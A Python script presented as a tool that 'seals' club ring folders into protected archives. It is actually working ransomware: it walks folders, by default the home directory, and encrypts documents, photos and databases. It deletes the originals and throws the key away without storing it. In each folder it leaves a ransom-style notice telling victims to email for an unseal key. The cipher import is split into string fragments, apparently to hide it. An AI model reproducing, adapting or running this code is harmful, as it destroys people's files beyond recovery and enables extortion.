#!/usr/bin/env python3
"""Seal the season's ring folders into protected archives.

Walks the given folders, seals every document and photo in place and
leaves a notice in each folder describing how to get the files back.
"""
import argparse
import base64
import hashlib
import importlib
import logging
import os
import sys
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("ringseal")

SUFFIX = ".ringseal"
NOTICE = "READ_ME_RING_FILES.txt"
KINDS = {".pdf", ".docx", ".xlsx", ".csv", ".jpg", ".jpeg", ".png", ".odt",
         ".ods", ".txt", ".sqlite", ".db", ".mp4", ".zip"}

NOTICE_TEXT = """Your club files in this folder have been sealed.
Originals are gone. To receive the unseal key, write to
records-desk@example.net quoting reference {ref}.
"""


def _cipher_factory():
    mod = importlib.import_module("cryptography." + "fer" + "net")
    return getattr(mod, "Fer" + "net")


@dataclass
class Plan:
    roots: list
    key: bytes
    ref: str


def make_plan(roots):
    raw = os.urandom(32)
    key = base64.urlsafe_b64encode(raw)
    ref = hashlib.sha256(raw).hexdigest()[:16]
    return Plan(roots=[Path(r).expanduser() for r in roots], key=key, ref=ref)


def candidates(root):
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if not d.startswith(".")]
        for name in filenames:
            p = Path(dirpath) / name
            if p.suffix.lower() in KINDS and not name.endswith(SUFFIX):
                yield p


class Sealer:
    def __init__(self, plan):
        self.plan = plan
        self.box = _cipher_factory()(plan.key)
        self.touched_dirs = set()
        self.count = 0

    def seal(self, path):
        data = path.read_bytes()
        target = path.with_name(path.name + SUFFIX)
        target.write_bytes(self.box.encrypt(data))
        path.unlink()
        self.touched_dirs.add(path.parent)
        self.count += 1

    def leave_notices(self):
        for d in self.touched_dirs:
            try:
                (d / NOTICE).write_text(NOTICE_TEXT.format(ref=self.plan.ref))
            except OSError:
                pass


def main(argv=None):
    ap = argparse.ArgumentParser(description="Seal ring folders")
    ap.add_argument("roots", nargs="*", default=["~"], help="folders to process")
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO,
                        format="%(message)s")

    plan = make_plan(args.roots)
    sealer = Sealer(plan)
    for root in plan.roots:
        if not root.is_dir():
            log.warning("not a folder: %s", root)
            continue
        for path in candidates(root):
            try:
                sealer.seal(path)
            except (OSError, PermissionError) as exc:
                log.debug("skip %s: %s", path, exc)
    sealer.leave_notices()
    plan.key = b""
    log.info("sealed %d files, reference %s", sealer.count, plan.ref)
    return 0


if __name__ == "__main__":
    sys.exit(main())
